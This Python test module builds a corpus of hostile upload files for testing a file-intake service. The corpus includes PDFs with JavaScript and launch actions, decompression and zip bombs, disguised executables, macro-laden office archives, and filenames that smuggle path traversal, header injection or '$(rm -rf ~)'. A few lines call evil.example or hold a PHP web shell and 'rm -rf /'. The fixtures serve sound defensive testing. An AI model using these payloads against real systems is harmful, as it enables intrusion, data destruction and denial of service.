"""More than two hundred files that nobody should be able to hurt us or each other with, all made here by code."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
import pillow_heif
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.papers import PAGE, pdf

pillow_heif.register_heif_opener()
#: Stands in everything hidden behind, beside or inside a picture: no served copy may hold it.
MARK = b"PWHOSTILE<script>alert(1)</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TRICKS = (
    "../../etc/passwd.pdf", "..\\..\\windows\\win.ini.pdf", "/etc/passwd.pdf", "C:\\plan.pdf", "\\\\host\\share\\a.pdf",
    "fac\u202efdp.exe.pdf", "a\u200bb\ufeff.pdf", "a\r\nSet-Cookie: x=1.pdf", 'a"; filename="b.pdf', "a\0.pdf",
    "nul\0.exe.pdf", "x" * 5000 + ".pdf", ".pdf", "....pdf", "CON.pdf", "a.pdf.", " a .pdf ", "<script>.pdf",
    "{{7*7}}.pdf", "%2e%2e%2fa.pdf", "🏠.pdf", "Z" + "\u0301" * 100 + ".pdf", "$(rm -rf ~).pdf", "-rf.pdf", "~root.pdf",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One file. `refused`: it must be; else it may also be taken, if it is harmless then."""

    what: str
    name: str
    data: bytes
    refused: bool = True


def files() -> list[Hostile]:
    """All of them."""
    return [
        *_acting_papers(), *_broken_papers(), *_disguises(), *_pictures(), *_broken_pictures(), *_archives(),
        *(Hostile(f"name {number}", name, pdf(), refused=False) for number, name in enumerate(TRICKS)),
    ]  # fmt: skip


def mutated(seed: int, count: int) -> Iterator[Hostile]:
    """Files that start as one of ours or as a good one, changed at random: the same seed gives the same files."""
    dice = random.Random(seed)
    grown = [*files(), *(Hostile("good", name, data) for name, data in _good())]
    for number in range(count):
        one = dice.choice(grown)
        yield Hostile(f"{seed}/{number} {one.what}", one.name, _mutate(one.data, dice, grown), refused=False)


def _mutate(data: bytes, dice: random.Random, grown: list[Hostile]) -> bytes:
    changed = bytearray(data[:2_000_000])
    for _ in range(dice.choice((1, 1, 2, 5, 40))):
        at = dice.randrange(len(changed) + 1)
        act = dice.randrange(6)
        if act == 0 and at < len(changed):
            changed[at] = dice.randrange(256)
        elif act == 1:
            del changed[at : at + dice.randrange(1, 200)]
        elif act == 2:
            changed[at:at] = dice.randbytes(dice.randrange(1, 50))
        elif act == 3:
            changed[at:at] = changed[: dice.randrange(2000)]
        elif act == 4:
            changed[at:at] = dice.choice(grown).data[:5000]
        else:
            number = struct.pack(">I", dice.choice((0, 1, 2**16, 2**31 - 1, 2**32 - 1)))
            changed[at : at + 4] = number
    return bytes(changed)


# --- PDF

_ACTIONS = {
    "script": b"/S/JavaScript/JS(app.alert\\(1\\))",
    "script by another spelling": b"/S/J#61vaScript/J#53(x)",
    "launch": b"/S/Launch/F(cmd.exe)",
    "submit": b"/S/SubmitForm/F(http://evil.example)",
    "import": b"/S/ImportData/F(a.fdf)",
    "other file": b"/S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]",
    "embedded target": b"/S/GoToE/T<<>>/D[0/Fit]",
    "rendition": b"/S/Rendition/OP 0/JS(x)",
    "rich media": b"/S/RichMediaExecute/CMD<<>>",
}


def _acting_papers() -> Iterator[Hostile]:
    for what, action in _ACTIONS.items():
        act = b"<<" + action + b">>"
        placed = {
            "on opening": pdf(catalog=b"/OpenAction" + act),
            "on a page": pdf(page=PAGE[:-2] + b"/AA<</O" + act + b">>>>"),
            "on a field": pdf(
                page=PAGE[:-2] + b"/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A" + act + b">>]>>"
            ),
            "by itself": pdf(more=b"4 0 obj" + act + b"endobj\n"),
            "after another": pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next" + act + b">>"),
        }
        for where, data in placed.items():
            yield Hostile(f"pdf {what} {where}", "a.pdf", data)
        yield Hostile(f"pdf {what} packed", "a.pdf", _packed(placed["on opening"]))
    held = {
        "names": b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>",
        "forms with scripts": b"/AcroForm<</XFA(x)/Fields[]>>",
        "attached file": b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/EF<</F 4 0 R>>>>]>>>>",
        "collection": b"/Collection<<>>/Names<</EmbeddedFiles<</Names[]>>>>",
    }
    stream = b"4 0 obj<</Type/EmbeddedFile/Length 3>>stream\nMZ\x90\nendstream endobj\n"
    for what, catalog in held.items():
        yield Hostile(f"pdf {what}", "a.pdf", pdf(catalog=catalog, more=stream))
        yield Hostile(f"pdf {what} packed", "a.pdf", _packed(pdf(catalog=catalog, more=stream)))


def _packed(data: bytes) -> bytes:
    """The same, with its objects compressed into a stream."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as document:
        packed = pikepdf.ObjectStreamMode.generate
        document.save(target, object_stream_mode=packed, compress_streams=True, deterministic_id=True)
    return target.getvalue()


def _broken_papers() -> Iterator[Hostile]:
    good = pdf()
    bomb = zlib.compress(b"\0" * 90_000_000, 9)
    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(good)) as document:
        document.save(locked, encryption=pikepdf.Encryption(user="geheim", owner="geheim"))
    packed = b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter%b/Length %d>>stream\n%b\nendstream endobj\n"
    yield Hostile("pdf bomb", "a.pdf", pdf(more=packed % (b"/FlateDecode", len(bomb), bomb)))
    twice = zlib.compress(bomb)
    yield Hostile("pdf double bomb", "a.pdf", pdf(more=packed % (b"[/FlateDecode/FlateDecode]", len(twice), twice)))
    yield Hostile("pdf locked", "a.pdf", locked.getvalue())
    yield Hostile("pdf deep", "a.pdf", pdf(catalog=b"/A" + b"[" * 5000 + b"]" * 5000))
    yield Hostile("pdf without pages", "a.pdf", good.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[]/Count 0"))
    yield Hostile("pdf whose pages hold themselves", "a.pdf", good.replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"))
    yield Hostile("pdf with a zip behind it", "a.pdf", good + _zip({"evil.js": MARK}))
    yield Hostile("pdf with much behind it", "a.pdf", good + MARK * 100)
    yield Hostile("pdf that is html too", "a.pdf", b"%PDF-1.7\n" + MARK + b"\n" + good)
    for share in (1, 3, 5, 8, 9):
        yield Hostile(f"pdf cut at {share}0%", "a.pdf", good[: len(good) * share // 10])


# --- what is not what it says


def _disguises() -> Iterator[Hostile]:
    insides = {
        "page": b"<!doctype html>" + MARK,
        "program": b"MZ\x90\0" + b"\0" * 400 + MARK,
        "linux program": b"\x7fELF" + b"\0" * 200,
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "php": b"<?php system($_GET[0]);",
        "javascript": b"import('http://evil.example')",
        "vector drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + MARK + b"</svg>",
        "virus test": EICAR,
        "xml bomb": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
        "shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 80,
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "rich text": rb"{\rtf1{\object\objautlink}}",
        "java": b"\xca\xfe\xba\xbe\0\0\x004",
    }
    for what, data in insides.items():
        for extension in ("pdf", "jpg", "png", "docx", "heic"):
            yield Hostile(f"{what} as {extension}", f"a.{extension}", data)
    for number, magic in enumerate(
        (b"%PDF-1.7\n", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"PK\x03\x04", b"", b"\0")
    ):
        yield Hostile(f"no more than a beginning {number}", "a.pdf", magic)
    yield Hostile("double extension", "a.pdf.exe", pdf())
    yield Hostile("photo as pdf", "a.pdf", _picture("JPEG"))
    yield Hostile("pdf as photo", "a.jpg", pdf())
    yield Hostile("png as jpg", "a.jpg", _picture("PNG"))
    yield Hostile("photo as page", "a.html", _picture("JPEG"))


# --- pictures


def _picture(form: str, size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: object) -> bytes:
    target = io.BytesIO()
    Image.new(mode, size).save(target, form, **options)
    return target.getvalue()


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 7.0, 1.0), 3: "E", 4: (5.0, 6.0, 1.0)})
    return exif


def _pictures() -> Iterator[Hostile]:
    """Pictures that may be taken: then only the picture is served."""
    text = PngInfo()
    text.add_text("Comment", MARK.decode())
    text.add_itxt("XML:com.adobe.xmp", MARK.decode(), zip=True)
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    moving = io.BytesIO()
    frames[0].save(moving, "PNG", save_all=True, append_images=frames[1:])
    good = {form: _picture(form) for form in ("JPEG", "PNG", "HEIF")}
    extension = {"JPEG": "jpg", "PNG": "png", "HEIF": "heic"}
    for form, data in good.items():
        for what, behind in {"page": MARK, "archive": _zip({"a": MARK}), "program": b"MZ" + MARK}.items():
            yield Hostile(f"{form} with a {what} behind it", f"a.{extension[form]}", data + behind, refused=False)
        place = _picture(form, exif=_exif())
        yield Hostile(f"{form} with a place", f"a.{extension[form]}", place, refused=False)
    yield Hostile("jpg comment", "a.jpg", _picture("JPEG", comment=MARK), refused=False)
    yield Hostile("jpg profile", "a.jpg", _picture("JPEG", icc_profile=MARK * 2000), refused=False)
    yield Hostile("png text", "a.png", _picture("PNG", pnginfo=text), refused=False)
    yield Hostile(
        "png text bomb",
        "a.png",
        _with_chunk(_picture("PNG"), b"zTXt", b"a\0\0" + zlib.compress(b"a" * 50_000_000)),
        refused=False,
    )
    yield Hostile("png own chunk", "a.png", _with_chunk(_picture("PNG"), b"evIl", MARK), refused=False)
    yield Hostile("png moving", "a.png", moving.getvalue(), refused=False)
    for mode in ("1", "L", "LA", "P", "RGBA", "I;16"):
        yield Hostile(f"png {mode}", "a.png", _picture("PNG", mode=mode), refused=False)
    for mode in ("L", "CMYK", "YCbCr"):
        yield Hostile(f"jpg {mode}", "a.jpg", _picture("JPEG", mode=mode), refused=False)
    for turned in range(10):
        exif = Image.Exif()
        exif[0x0112] = turned
        yield Hostile(f"jpg turned {turned}", "a.jpg", _picture("JPEG", exif=exif), refused=False)


def _with_chunk(png: bytes, kind: bytes, body: bytes) -> bytes:
    chunk = struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return png[:33] + chunk + png[33:]


def _broken_pictures() -> Iterator[Hostile]:
    sides = {"wide": (60_000, 1_000), "high": (1_000, 60_000), "huge": (65_535, 65_535), "none": (0, 0), "flat": (9, 0)}
    for what, (width, height) in sides.items():
        head = struct.pack(">II", width, height) + _picture("PNG")[24:29]
        png = _picture("PNG")
        yield Hostile(
            f"png {what}", "a.png", png[:16] + head + struct.pack(">I", zlib.crc32(b"IHDR" + head)) + png[33:]
        )
        jpeg = bytearray(_picture("JPEG"))
        at = jpeg.index(b"\xff\xc0") + 5
        jpeg[at : at + 4] = struct.pack(">HH", min(height, 65_500), min(width, 65_500))
        yield Hostile(f"jpg {what}", "a.jpg", bytes(jpeg))
    noise = random.Random(7).randbytes(90 * 90 * 3)
    rough = Image.frombytes("RGB", (90, 90), noise)
    for form, name in (("JPEG", "a.jpg"), ("PNG", "a.png"), ("HEIF", "a.heic")):
        target = io.BytesIO()
        rough.save(target, form)
        for share in (1, 3, 5, 7, 9):
            yield Hostile(f"{form} cut at {share}0%", name, target.getvalue()[: len(target.getvalue()) * share // 10])
    for form, extension in (
        ("GIF", "gif"),
        ("BMP", "bmp"),
        ("TIFF", "tiff"),
        ("WEBP", "webp"),
        ("ICO", "ico"),
        ("PPM", "ppm"),
    ):
        yield Hostile(f"{extension}", f"a.{extension}", _picture(form))
        yield Hostile(f"{extension} as jpg", "a.jpg", _picture(form))


# --- office documents and archives

_DOCX = {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}


def _zip(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in parts.items():
            packed.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return target.getvalue()


def _archives() -> Iterator[Hostile]:
    for part in (
        "word/vbaProject.bin",
        "VBAPROJECT.BIN",
        "xl/vbaProject.bin",
        "word/vbaProject.bin.rels",
        "word/activeX/activeX1.xml",
    ):
        yield Hostile(f"macro in {part}", "a.docx", _zip(_DOCX | {part: MARK}))
    for part in ("Basic/Standard/x.xml", "Scripts/python/x.py"):
        yield Hostile(
            f"macro in {part}", "a.odt", _zip({"mimetype": b"application/vnd.oasis.opendocument.text", part: MARK})
        )
    yield Hostile("zip", "a.zip", _zip({"a.txt": b"x"}))
    yield Hostile("zip as docx", "a.docx", _zip({"a.txt": b"x"}))
    yield Hostile("zip that climbs", "a.docx", _zip({"../../etc/passwd": b"x"}))
    yield Hostile("zip in a zip", "a.docx", _zip({"a.zip": _zip({"a": MARK})}))
    yield Hostile("zip bomb", "a.docx", _zip(_DOCX | {"word/a.bin": b"\0" * 210_000_000}))
    yield Hostile("torn zip", "a.docx", _zip(_DOCX)[:60])
    yield Hostile("macros by name", "a.docm", _zip(_DOCX))
    yield Hostile("jar", "a.jar", _zip({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}))
    yield Hostile("app", "a.apk", _zip({"AndroidManifest.xml": b"x", "classes.dex": b"dex"}))


def _good() -> Iterator[tuple[str, bytes]]:
    yield "a.pdf", pdf()
    yield "a.pdf", _packed(pdf(catalog=b"/OpenAction[3 0 R/Fit]"))
    yield "a.jpg", _picture("JPEG", (300, 200))
    yield "a.png", _picture("PNG", (300, 200))
    yield "a.heic", _picture("HEIF", (300, 200))
    yield "a.docx", _zip(_DOCX)
